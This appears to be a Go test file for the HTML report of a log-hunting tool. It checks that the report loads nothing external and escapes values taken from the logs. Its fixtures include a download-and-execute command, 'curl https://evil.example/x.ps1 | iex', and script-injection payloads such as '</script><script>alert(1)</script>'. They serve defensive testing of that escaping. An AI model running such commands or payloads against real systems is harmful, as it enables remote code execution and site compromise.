package report

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/loghunt/loghunt/hunt"
	"github.com/loghunt/loghunt/hunt/output"
	"github.com/loghunt/loghunt/internal/testshared"
	"github.com/loghunt/loghunt/parsers"
)

func write(t *testing.T, opts Options, sum *output.Summary, hits ...*hunt.Hit) string {
	t.Helper()
	var b bytes.Buffer
	w := New(&b, opts)
	for _, h := range hits {
		if err := w.WriteHit(h); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(sum); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func hit(r *hunt.Rule, at time.Time, computer string, fields ...string) *hunt.Hit {
	ev := &parsers.Event{Time: at, Computer: computer, Channel: "Security", EventID: 4688, RecordID: 1,
		Source: parsers.Source{Path: "logs/Security.evtx", Offset: 4096}}
	for i := 0; i+1 < len(fields); i += 2 {
		ev.Fields = append(ev.Fields, parsers.Field{Name: fields[i], Value: fields[i+1]})
	}
	return &hunt.Hit{Rule: r, Time: at, Event: ev}
}

var (
	ruleExec = &hunt.Rule{ID: "r1", Title: "Suspicious shell", Level: "high", Engine: "sigma", Description: "A shell.",
		Tags: []string{"attack.execution", "attack.t1059.001"}}
	ruleLow = &hunt.Rule{ID: "r2", Title: "Noise", Level: "low", Engine: "sigma"}
	t0      = time.Date(2026, 11, 3, 10, 0, 0, 0, time.UTC)
)

// dataElements matches the JSON data elements, whose text is the hits'.
var dataElements = regexp.MustCompile(`(?s)<script type="application/json" id="[a-z-]+">.*?</script>`)

// TestSelfContained: apart from the data (which holds what the logs say),
// the file names no URL and loads nothing.
func TestSelfContained(t *testing.T) {
	for _, n := range []int{0, 3} {
		var hits []*hunt.Hit
		for i := range n {
			hits = append(hits, hit(ruleExec, t0.Add(time.Duration(i)*time.Minute), "WS1",
				"CommandLine", "curl https://evil.example/x.ps1 | iex", "Url", "http://evil.example/"))
		}
		page := write(t, Options{}, &output.Summary{Files: 1, RulesLoaded: map[string]int{"sigma": 2}, HitsTotal: n}, hits...)
		outside := dataElements.ReplaceAllString(page, "")
		if strings.Count(page, `<script type="application/json"`) != 3 || strings.Contains(outside, "application/json") {
			t.Fatalf("the data elements are not where expected")
		}
		for _, bad := range []string{"http:", "https:", "src=", "href=", "url(", "@import", "://"} {
			if i := strings.Index(strings.ToLower(outside), bad); i >= 0 {
				t.Errorf("%d hits: the page has %q outside the data: ...%s...", n, bad, outside[max(0, i-60):min(len(outside), i+60)])
			}
		}
		if !strings.Contains(page, `<meta http-equiv="Content-Security-Policy" content="default-src 'none';`) {
			t.Error("no Content-Security-Policy forbidding loads")
		}
	}
}

// TestHostileValues: values from the logs cannot end the data element,
// add markup, or run script; they come back intact from the data.
func TestHostileValues(t *testing.T) {
	const payload = `</script><script>alert(1)</script>`
	const payload2 = `<!--<script>document.title='pwned'</script>`
	evil := &hunt.Rule{ID: "<x>", Title: `<img src=x onerror=alert(1)>`, Level: "high", Engine: "sigma",
		Description: payload, Tags: []string{"attack.t1059"}}
	h := hit(evil, t0, "<b>WS1</b>", "CommandLine", payload, payload2, "x\u2028y")
	h.Matched = []hunt.Matched{{Search: "sel", Field: "CommandLine", Value: payload}}
	page := write(t, Options{}, &output.Summary{HitsPerRule: []output.RuleCount{{ID: "<x>", Title: evil.Title, Engine: "sigma", Level: "high", Hits: 1}},
		HitsPerComputer: []output.ComputerCount{{Computer: "<b>WS1</b>", Hits: 1}}, HitsPerLevel: map[string]int{"high": 1}}, h)

	// Four script elements: the three data elements and the page's own.
	if n := strings.Count(strings.ToLower(page), "<script"); n != 4 {
		t.Errorf("%d <script in the page, want 4", n)
	}
	if n := strings.Count(strings.ToLower(page), "</script"); n != 4 {
		t.Errorf("%d </script in the page, want 4", n)
	}
	for _, raw := range []string{payload, "<img src=x", "<b>WS1", "<!--", "\u2028"} {
		if strings.Contains(page, raw) {
			t.Errorf("the page has %q as it is", raw)
		}
	}
	// The summary shows them as text.
	for _, want := range []string{"&lt;img src=x onerror=alert(1)&gt;", "&lt;b&gt;WS1&lt;/b&gt;"} {
		if !strings.Contains(page, want) {
			t.Errorf("the summary lacks %q", want)
		}
	}
	// The data gives the values back exactly.
	rows := decodeHits(t, page)
	want := [][2]string{{"CommandLine", payload}, {payload2, "x\u2028y"}}
	if len(rows) != 1 || len(rows[0].fields) != 2 || rows[0].fields[0] != want[0] || rows[0].fields[1] != want[1] {
		t.Errorf("fields %q, want %q", rows[0].fields, want)
	}
	// In a browser: the page's title is its own, the payload is text in
	// the table, and no element came from the data.
	if dom := dumpDOM(t, page); dom != "" {
		if !strings.Contains(dom, "<title>loghunt report</title>") || strings.Contains(dom, "<title>pwned") {
			t.Error("the payload changed the page's title")
		}
		if !strings.Contains(dom, "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;") {
			t.Error("the payload is not shown as text in the table")
		}
		if n := strings.Count(dom, "<script"); n != 4 {
			t.Errorf("%d script elements in the DOM, want 4", n)
		}
		if strings.Contains(dom, "<img") || strings.Contains(dom, "<b>WS1") {
			t.Error("markup from the data reached the DOM")
		}
	}
}

// TestChartBins: hits at 10:00:00, 10:00:30 and 10:05:00 span 300 s; the
// first step with fewer than 60 bins is 15 s (300/15 = 20), so 21 bins from
// 10:00:00: bin 0 and bin 2 high, bin 20 low.
func TestChartBins(t *testing.T) {
	w := New(&bytes.Buffer{}, Options{})
	for _, h := range []*hunt.Hit{hit(ruleExec, t0, "A"), hit(ruleExec, t0.Add(30*time.Second), "A"), hit(ruleLow, t0.Add(5*time.Minute), "B")} {
		if err := w.WriteHit(h); err != nil {
			t.Fatal(err)
		}
	}
	step, start, counts, ok := w.bins()
	if !ok || step != 15000 || start != t0.UnixMilli() || len(counts) != 21 {
		t.Fatalf("bins: step %d start %d n %d ok %v", step, start, len(counts), ok)
	}
	for i, c := range counts {
		var want [levelCount]int
		switch i {
		case 0, 2:
			want[1] = 1
		case 20:
			want[3] = 1
		}
		if c != want {
			t.Errorf("bin %d = %v, want %v", i, c, want)
		}
	}
	var b strings.Builder
	w.chart(&b)
	if n := strings.Count(b.String(), "<rect "); n != 3 {
		t.Errorf("%d bars, want 3", n)
	}
}

// TestStructure: the parts of the page, from two rules' hits.
func TestStructure(t *testing.T) {
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Skip(err)
	}
	sum := &output.Summary{Files: 2, Events: 10, RulesLoaded: map[string]int{"sigma": 2, "kql": 1},
		RulesOff: []hunt.Skipped{{Path: "bad.yml", Line: 3, Reason: "no detection"}}, HitsTotal: 3,
		HitsPerLevel: map[string]int{"high": 2, "low": 1}}
	page := write(t, Options{Location: berlin}, sum,
		hit(ruleExec, t0, "WS1"), hit(ruleExec, t0.Add(time.Hour), "WS2"), hit(ruleLow, time.Time{}, "WS1"))
	for _, want := range []string{
		`<section id="summary">`, `<svg id="chart"`, `<section id="attack">`, `<table id="hit-table">`,
		"<dt>rules loaded</dt><dd>3 (kql 1, sigma 2)</dd>",
		"<dt>first hit</dt><dd>2026-11-03 11:00:00.000 +01:00</dd>", "<dt>last hit</dt><dd>2026-11-03 12:00:00.000 +01:00</dd>",
		"rule not loaded: bad.yml:3: no detection",
		"<h3>Execution <small>TA0002</small></h3><p class=\"tactic-hits\">2 hits</p>",
		`data-tech="T1059.001"`, "1 hits are of rules without an ATT&amp;CK tag.",
		"1 hits without a time (KQL rows not tied to an event) are not in the chart.",
		"times in Europe/Berlin",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if strings.Contains(page, "written ") {
		t.Error("a zero Generated time is written")
	}
}

// TestFieldBounds: long values are cut with a note, fields past MaxFields
// are counted.
func TestFieldBounds(t *testing.T) {
	var fields []string
	for i := range MaxFields + 5 {
		fields = append(fields, "F"+string(rune('a'+i%26)), strings.Repeat("é", MaxValue)) // 2*MaxValue bytes
	}
	page := write(t, Options{}, nil, hit(ruleExec, t0, "WS1", fields...))
	got := decodeHits(t, page)[0]
	if len(got.fields) != MaxFields || got.notShown != 5 {
		t.Fatalf("%d fields, %d not shown", len(got.fields), got.notShown)
	}
	want := strings.Repeat("é", MaxValue/2) + "… (4096 more bytes)"
	if got.fields[0][1] != want {
		t.Errorf("cut value ends %q", got.fields[0][1][len(got.fields[0][1])-30:])
	}
}

// TestStringTable: a string the hits repeat is written once; a string too
// long to share is written in place each time.
func TestStringTable(t *testing.T) {
	long := strings.Repeat("x", maxShared+1)
	page := write(t, Options{}, nil,
		hit(ruleExec, t0, "WS1", "Image", `C:\Windows\repeated.exe`, "Long", long),
		hit(ruleExec, t0, "WS1", "Image", `C:\Windows\repeated.exe`, "Long", long))
	if n := strings.Count(page, `repeated.exe`); n != 1 {
		t.Errorf("a repeated value is written %d times", n)
	}
	if n := strings.Count(page, long); n != 2 {
		t.Errorf("a long value is written %d times, want 2", n)
	}
	rows := decodeHits(t, page)
	for _, r := range rows {
		if len(r.fields) != 2 || r.fields[0] != [2]string{"Image", `C:\Windows\repeated.exe`} || r.fields[1][1] != long {
			t.Errorf("fields %q", r.fields)
		}
	}
}

// decoded is a hit read back from the report's data, as its script does.
type decoded struct {
	details  []string
	fields   [][2]string
	notShown int
}

// decodeHits reads the hit data element: each row adds its new strings to
// the table, then refers to strings by index or gives them in place.
func decodeHits(t *testing.T, page string) []decoded {
	t.Helper()
	m := regexp.MustCompile(`(?s)<script type="application/json" id="hit-data">(.*?)</script>`).FindStringSubmatch(page)
	if m == nil {
		t.Fatal("no hit data")
	}
	var rows [][]json.RawMessage
	if err := json.Unmarshal([]byte(m[1]), &rows); err != nil {
		t.Fatalf("hit data: %v", err)
	}
	var table []string
	str := func(raw json.RawMessage) string {
		var i int
		if json.Unmarshal(raw, &i) == nil {
			return table[i]
		}
		var s string
		if err := json.Unmarshal(raw, &s); err != nil {
			t.Fatalf("string ref %s: %v", raw, err)
		}
		return s
	}
	var out []decoded
	for _, row := range rows {
		var fresh []string
		if err := json.Unmarshal(row[5], &fresh); err != nil {
			t.Fatal(err)
		}
		table = append(table, fresh...)
		var d decoded
		var det, fields []json.RawMessage
		if err := json.Unmarshal(row[9], &det); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(row[11], &fields); err != nil {
			t.Fatal(err)
		}
		for i := 0; i+1 < len(det); i += 2 {
			d.details = append(d.details, str(det[i])+": "+str(det[i+1]))
		}
		for i := 0; i+1 < len(fields); i += 2 {
			d.fields = append(d.fields, [2]string{str(fields[i]), str(fields[i+1])})
		}
		if err := json.Unmarshal(row[12], &d.notShown); err != nil {
			t.Fatal(err)
		}
		out = append(out, d)
	}
	return out
}

// dumpDOM loads page in headless Chromium and returns the DOM after its
// scripts ran; "" (after a skip message) without Chromium.
func dumpDOM(t *testing.T, page string) string {
	t.Helper()
	bin, ok := chromium()
	if !ok {
		t.Log("chromium not installed: the browser half of this test did not run")
		return ""
	}
	path := filepath.Join(t.TempDir(), "report.html")
	if err := os.WriteFile(path, []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	args := append(append([]string{}, testshared.ChromiumArgs...), "--user-data-dir="+t.TempDir(), "--dump-dom", "file://"+path)
	out, err := exec.CommandContext(ctx, bin, args...).Output()
	if err != nil {
		t.Fatalf("chromium: %v", err)
	}
	if !strings.Contains(string(out), `data-ready="1"`) {
		t.Fatalf("the page's script did not finish:\n%.2000s", out)
	}
	return string(out)
}

func chromium() (string, bool) {
	for _, name := range []string{"chromium", "chromium-browser"} {
		if p, err := exec.LookPath(name); err == nil {
			return p, true
		}
	}
	return "", false
}
